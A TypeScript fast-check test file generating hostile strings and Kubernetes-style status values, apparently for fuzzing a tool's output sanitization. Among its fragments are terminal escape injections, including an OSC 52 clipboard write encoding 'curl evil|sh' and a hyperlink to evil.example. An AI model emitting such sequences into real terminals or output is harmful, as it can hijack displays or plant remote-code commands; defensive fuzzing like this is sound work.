// Hostile strings: escape sequences (CSI, OSC, C1 CSI), C0/C1 controls, DEL,
// bidi overrides and isolates, zero-width and combining characters, lone surrogates, emoji,
// YAML/JSON/jsonpath syntax, empty or huge; and the word lists the fields of hostile objects
// draw from (test/guarantees/hostile/hostile-arbitraries.ts builds the objects).
import fc from "fast-check";
// ------------------------------------------------------------------------------------ strings

/** Pieces hostile strings are made of. */
export const HOSTILE_FRAGMENTS: readonly string[] = [
  // ANSI CSI: colour, cursor movement, clear screen, hide text, erase line
  "\u001b[31m",
  "\u001b[0;1;4;5;7m",
  "\u001b[2J",
  "\u001b[H",
  "\u001b[8m",
  "\u001b[2K",
  "\u001b[1A",
  "\u001b[?25l",
  "\u001b[6n",
  // OSC: window title, hyperlink, clipboard write; BEL and ST terminated
  "\u001b]0;pwned\u0007",
  "\u001b]8;;https://evil.example/\u001b\\",
  "\u001b]52;c;Y3VybCBldmlsfHNo\u0007",
  "\u001b]2;title\u001b\\",
  // DCS, APC, bare ESC, ESC c (reset)
  "\u001bP1$r\u001b\\",
  "\u001b_apc\u001b\\",
  "\u001b",
  "\u001bc",
  // C1 controls: CSI, OSC, ST, NEL, DCS, APC
  "\u009b31m",
  "\u009b2J",
  "\u009d0;t\u009c",
  "\u0085",
  "\u0090",
  "\u009f",
  "\u0080",
  // C0 controls and DEL
  "\u0000",
  "\u0007",
  "\b",
  "\r",
  "\n",
  "\r\n",
  "\t",
  "\u000b",
  "\u000c",
  "\u007f",
  "\u001c",
  // bidi overrides, embeddings, isolates, marks; line and paragraph separators
  "\u202e",
  "\u202d",
  "\u202a",
  "\u202b",
  "\u202c",
  "\u2066",
  "\u2067",
  "\u2068",
  "\u2069",
  "\u200e",
  "\u200f",
  "\u061c",
  "\u2028",
  "\u2029",
  // zero-width and invisible
  "\u200b",
  "\u200c",
  "\u200d",
  "\u2060",
  "\ufeff",
  "\u00ad",
  "\u180e",
  // combining marks (one, and a pile of them)
  "e\u0301",
  "\u0336\u0336\u0336",
  "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307",
  // emoji: plain, ZWJ family, flag, skin tone, keycap
  "🚀",
  "👩‍👩‍👧‍👦",
  "🇺🇦",
  "👍🏽",
  "1️⃣",
  // lone and reversed surrogates
  "\ud800",
  "\udfff",
  "\udc00\ud800",
  "x\ud83d",
  // wide and right-to-left scripts
  "数据库",
  "שלום",
  "مرحبا",
  "ｆｕｌｌ",
  // syntax of the output formats and of templates
  ": ",
  "- ",
  "#",
  "&a",
  "*a",
  "!!binary",
  "---",
  "...",
  "~",
  "null",
  "true",
  "0x1F",
  "1e3",
  "'",
  '"',
  "\\",
  "`",
  "{",
  "}",
  "{.x}",
  "$",
  "@",
  "%s",
  "${x}",
  "|",
  ">",
  // plain words
  "storefront",
  "app",
  "Ready",
  "InSync",
  "sha256:",
  " ",
  "  ",
];

export const CONTROL = fc.oneof(
  fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)),
  fc.integer({ min: 0x7f, max: 0x9f }).map((c) => String.fromCharCode(c)),
);

export const fragment = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_FRAGMENTS) },
  { weight: 2, arbitrary: CONTROL },
  { weight: 2, arbitrary: fc.stringMatching(/^[a-z0-9][a-z0-9.-]{0,10}$/u) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 6 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 4 }) },
);

/** A short hostile string (the common case). */
export const shortHostile = fc.array(fragment, { maxLength: 8 }).map((parts) => parts.join(""));

/** A huge string: a hostile piece repeated to 1–3k characters. */
export const hugeHostile = fc
  .tuple(shortHostile, fc.integer({ min: 1000, max: 3000 }))
  .map(([s, n]) => (s || "\u001b[31m").repeat(Math.ceil(n / Math.max(1, (s || "\u001b[31m").length))).slice(0, n));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 90, arbitrary: shortHostile },
  { weight: 6, arbitrary: fc.constant("") },
  { weight: 1, arbitrary: hugeHostile },
);

/** Strings a Kubernetes name could be (the common case), so lookups by name hit. */
export const dnsName: fc.Arbitrary<string> = fc.stringMatching(/^[a-z][a-z0-9-]{0,14}[a-z0-9]$/u);

export const hostileInt = fc.oneof(
  { weight: 6, arbitrary: fc.integer({ min: 0, max: 10 }) },
  { weight: 1, arbitrary: fc.constantFrom(-1, 2 ** 31, 2 ** 53 - 1, -(2 ** 53) + 1, 1e15) },
  { weight: 1, arbitrary: fc.integer() },
);

export const TIMESTAMPS = [
  "2026-11-30T11:00:00Z",
  "2026-11-30T11:59:59Z",
  "2026-11-30T12:00:00Z",
  "2026-12-01T00:00:00Z",
  "1970-01-01T00:00:00Z",
  "0001-01-01T00:00:00Z",
  "9999-12-31T23:59:59Z",
  "2026-11-30T11:00:00.123456789Z",
  "2026-11-30T13:00:00+01:00",
  "not a time",
  "2026-13-45T99:99:99Z",
  "",
];
export const PHASES = ["InSync", "AwaitingApproval", "Blocked", "Failed", "Applying", "Planning", "Pending", "Suspended", "Unknown", "Succeeded", "Partial", "UpToDate"];
export const CONDITION_TYPES = [
  "Ready",
  "InSync",
  "ApprovalRequired",
  "PlanReady",
  "DriftDetected",
  "Applying",
  "ArtifactResolved",
  "ArtifactVerified",
  "DatabaseReachable",
  "Accepted",
  "Stale",
  "Consumed",
  "Superseded",
  "Reserved",
  "RunUnresolved",
];
export const REASONS = [
  "Published",
  "Waiting",
  "AwaitingApproval",
  "ScopedConverged",
  "ScopedChanges",
  "PlanNoLongerCurrent",
  "DispatchCommitted",
  "DestructiveChangesDisabled",
  "NotRequired",
  "Satisfied",
  "JobCompleted",
  "JobFailed",
  "InSync",
];
export const STATUSES = ["True", "False", "Unknown"];
export const EVENT_TYPES = ["Normal", "Warning"];
export const SEVERITIES = ["safe", "warning", "destructive", "info"];
export const OUTCOMES = ["Succeeded", "Failed", "Partial", "Unknown"];

export function fromListOr(list: readonly string[], weight = 3): fc.Arbitrary<string> {
  return fc.oneof({ weight, arbitrary: fc.constantFrom(...list) }, { weight: 1, arbitrary: hostileString });
}
